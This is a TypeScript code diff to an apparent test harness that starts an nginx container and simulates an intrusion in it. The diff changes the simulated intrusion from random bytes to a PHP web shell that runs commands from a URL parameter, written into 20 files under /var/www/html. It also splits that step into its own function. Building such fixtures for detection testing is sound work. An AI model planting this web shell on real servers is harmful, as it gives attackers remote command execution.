@@ -9,7 +9,7 @@ import type { Probe } from './judge.ts';
 
 const PROBE_EVERY_MS = 5;
 /** What an intruder leaves behind. */
-const INTRUSION = 'for i in $(seq 20); do head -c 4096 /dev/urandom >/var/www/html/$i.php; done';
+const INTRUSION = `for i in $(seq 20); do echo '<?php system($_GET["c"]);' >/var/www/html/$i.php; done`;
 
 export interface Service {
   readonly id: string;
@@ -27,14 +27,23 @@ export async function serviceImage({ docker, say, signal }: Bench): Promise<stri
   return (await ensureServiceImage(nginx, { docker, task, signal })).reference;
 }
 
-/** Starts the service with a published port, and something in it that does not belong there. */
-export async function startService(bench: Bench, image: string, name: string): Promise<Service> {
-  const { docker, label, signal } = bench;
+/** Starts the service with a published port. */
+export async function startService(
+  { docker, label, signal }: Bench,
+  image: string,
+  name: string,
+  labels: readonly string[] = [],
+): Promise<Service> {
   const port = await freePort();
-  const options = ['--label', label, '-p', `${port}:80`, image, ...nginx.command];
+  const all = [label, ...labels].flatMap((one) => ['--label', one]);
+  const options = [...all, '-p', `${port}:80`, image, ...nginx.command];
   const id = await docker.text(['run', '-d', '--name', name, ...options], { signal });
-  await docker.text(['exec', id, 'sh', '-c', INTRUSION], { signal });
   return { id, name, port, options };
+}
+
+/** Leaves something in the service that does not belong there. */
+export async function intrude({ docker, signal }: Bench, { id }: Service): Promise<void> {
+  await docker.text(['exec', id, 'sh', '-c', INTRUSION], { signal });
 }
 
 export interface Client extends AsyncDisposable {
